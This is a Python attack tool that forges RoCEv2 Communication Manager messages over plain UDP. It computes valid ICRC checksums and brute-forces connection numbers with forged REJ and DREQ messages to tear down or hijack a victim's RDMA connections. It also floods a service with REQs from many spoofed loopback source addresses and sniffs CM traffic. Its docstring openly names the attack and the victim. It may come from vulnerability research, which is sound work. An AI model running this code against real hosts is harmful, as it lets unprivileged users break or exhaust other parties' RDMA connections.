# SPDX-License-Identifier: Apache-2.0
"""Forges RoCEv2 management datagrams (messages of the Communication Manager) over ordinary UDP.

Any user can do this: it needs no raw socket. As a program it runs as the user and in the network
namespace of the attack:

    forger.py scan SOURCE DESTINATION BLOCK FIRST COUNT KIND...
        Sends messages of each kind to the connection numbers FIRST to FIRST + COUNT - 1 of a block.
    forger.py send SOURCE DESTINATION JSON
        Sends one message; JSON has the arguments of `message()`.
    forger.py requests FIRST COUNT DESTINATION SERVICE
        Sends one REQ from each of COUNT addresses of 127.0.0.0/8, beginning with number FIRST.
    forger.py watch INTERFACE
        Prints each message that crosses the interface as a line of JSON (root only).
"""

import ipaddress
import json
import socket
import struct
import sys
import time
import zlib
from collections.abc import Iterator

ROCE_PORT = 4791
MAD_BYTES, MAD_HEADER_BYTES = 256, 24
ATTRIBUTES = {"REQ": 0x10, "MRA": 0x11, "REJ": 0x12, "REP": 0x13, "RTU": 0x14, "DREQ": 0x15, "DREP": 0x16}
KINDS = {attribute: kind for kind, attribute in ATTRIBUTES.items()}
CONSUMER = 28  # the reason of a REJ
# Linux's IP_MTU_DISCOVER and IP_PMTUDISC_PROBE: the DF bit is set, and the IP identification is 0.
IP_MTU_DISCOVER, IP_PMTUDISC_PROBE = 10, 3
ETH_P_ALL, ETH_P_IP = 0x0003, 0x0800

# BTH (UD SEND ONLY to queue pair 1) and DETH (the general services' Q_Key, from queue pair 1).
BTH = struct.pack(">BBHII", 0x64, 0x40, 0xFFFF, 1, 0)
DETH = struct.pack(">II", 0x80010000, 1)
PACKET_BYTES = len(BTH) + len(DETH) + MAD_BYTES + 4


def message(
    kind: str,
    local: int = 0,
    remote: int = 0,
    transaction: int = 0,
    qpn: int = 0,
    service: int = 0,
    ends: tuple[str, str] = ("0.0.0.0", "0.0.0.0"),
) -> bytes:
    """A message of the Communication Manager (IBA 12.6).

    qpn      of the sender in a REQ or REP, of the receiver in a DREQ
    service  of a REQ
    ends     the addresses of sender and receiver, which a REQ has in its private data
    """
    mad = bytearray(MAD_BYTES)
    struct.pack_into(">BBBB4xQH", mad, 0, 1, 0x07, 2, 0x03, transaction, ATTRIBUTES[kind])
    body = MAD_HEADER_BYTES
    struct.pack_into(">II", mad, body, local, 0 if kind == "REQ" else remote)
    if kind == "DREQ":
        struct.pack_into(">I", mad, body + 8, qpn << 8)
    elif kind == "REJ":
        struct.pack_into(">BxH", mad, body + 8, 0, CONSUMER)
    elif kind == "REP":
        struct.pack_into(">I", mad, body + 12, qpn << 8)
        struct.pack_into(">Q", mad, body + 28, local)
    elif kind == "REQ":
        struct.pack_into(">QQ", mad, body + 8, service, local)
        struct.pack_into(">I", mad, body + 32, qpn << 8)
        mad[body + 50] = 0x37  # MTU 1024
        struct.pack_into(">BBH", mad, body + 140, 0, 0x40, 40000)
        for at, address in zip((body + 156, body + 172), ends, strict=True):
            mad[at : at + 4] = socket.inet_aton(address)
    return bytes(mad)


class Sender:
    """A UDP socket with this source address, and the checksum of what it sends to a destination."""

    def __init__(self, source: str, destination: str) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_PROBE)
        self._socket.bind((source, 0))
        self._to = (destination, ROCE_PORT)
        port = self._socket.getsockname()[1]
        length = 8 + PACKET_BYTES
        ends = socket.inet_aton(source) + socket.inet_aton(destination)
        # The ICRC covers the headers, with ones in the place of fields that change on the way.
        masked_ip = struct.pack(">BBHHHBBH", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF) + ends
        masked_udp = struct.pack(">HHHH", port, ROCE_PORT, length, 0xFFFF)
        masked_bth = BTH[:4] + b"\xff" + BTH[5:]
        self._covered = zlib.crc32(8 * b"\xff" + masked_ip + masked_udp + masked_bth + DETH)

    def send(self, mad: bytes) -> None:
        packet = BTH + DETH + mad + struct.pack("<I", zlib.crc32(mad, self._covered))
        try:
            self._socket.sendto(packet, self._to)
        except ConnectionRefusedError:  # an ICMP message about an earlier datagram
            self._socket.sendto(packet, self._to)

    def close(self) -> None:
        self._socket.close()


class Pace:
    """Keeps a loop below a rate, so that the victim's receive buffer does not overflow."""

    def __init__(self, per_second: float) -> None:
        self._per_second, self._start, self._done = per_second, time.monotonic(), 0

    def step(self) -> None:
        self._done += 1
        if self._done % 64 == 0:
            ahead = self._done / self._per_second - (time.monotonic() - self._start)
            if ahead > 0:
                time.sleep(ahead)


def scan(source: str, destination: str, block: int, first: int, count: int, kinds: list[str]) -> None:
    sender, pace = Sender(source, destination), Pace(25_000)
    # A field that an attacker does not know is 0, or wrong.
    templates = [bytearray(message(kind, transaction=1)) for kind in kinds]
    for number in range(block << 20 | first, block << 20 | first + count):
        for template in templates:
            struct.pack_into(">I", template, MAD_HEADER_BYTES + 4, number)
            sender.send(bytes(template))
            pace.step()
    sender.close()


def requests(first: int, count: int, destination: str, service: int) -> None:
    """One REQ from each of many addresses, as if each were a client of its own."""
    pace = Pace(20_000)
    for number in range(first, first + count):
        source = str(ipaddress.IPv4Address(0x7F010000 + number))
        sender = Sender(source, destination)
        ends = (source, destination)
        sender.send(message("REQ", local=number + 1, transaction=number + 1, qpn=5, service=service, ends=ends))
        sender.close()
        pace.step()


def parse(datagram: bytes) -> dict[str, int | str] | None:
    """The fields of a message of the Communication Manager, from BTH to ICRC; None: it is none."""
    if len(datagram) != PACKET_BYTES or datagram[0] != BTH[0] or datagram[5:8] != b"\x00\x00\x01":
        return None
    mad = datagram[len(BTH) + len(DETH) :]
    transaction, attribute = struct.unpack_from(">QH", mad, 8)
    if attribute not in KINDS:
        return None
    local, remote = struct.unpack_from(">II", mad, MAD_HEADER_BYTES)
    kind = KINDS[attribute]
    at = MAD_HEADER_BYTES + {"REQ": 32, "REP": 12, "DREQ": 8}.get(kind, 0)
    qpn = struct.unpack_from(">I", mad, at)[0] >> 8
    return {"kind": kind, "local": local, "remote": remote, "transaction": transaction, "qpn": qpn}


def watch(interface: str) -> Iterator[dict[str, int | str]]:
    # Only a socket for all protocols gets what this host sends.
    all_packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    all_packets.bind((interface, ETH_P_ALL))
    yield {"kind": "watching"}
    while True:
        packet, (_, protocol, *_) = all_packets.recvfrom(65536)
        if protocol != ETH_P_IP:
            continue
        udp = (packet[0] & 15) * 4
        if packet[9] != 17 or packet[udp + 2 : udp + 4] != struct.pack(">H", ROCE_PORT):
            continue
        found = parse(packet[udp + 8 : udp + struct.unpack_from(">H", packet, udp + 4)[0]])
        if found:
            yield found


def main(words: list[str]) -> None:
    command, *words = words
    if command == "scan":
        scan(words[0], words[1], int(words[2]), int(words[3]), int(words[4]), words[5:])
    elif command == "send":
        sender = Sender(words[0], words[1])
        sender.send(message(**json.loads(words[2])))
        sender.close()
    elif command == "requests":
        requests(int(words[0]), int(words[1]), words[2], int(words[3]))
    elif command == "watch":
        for found in watch(words[0]):
            print(json.dumps(found), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
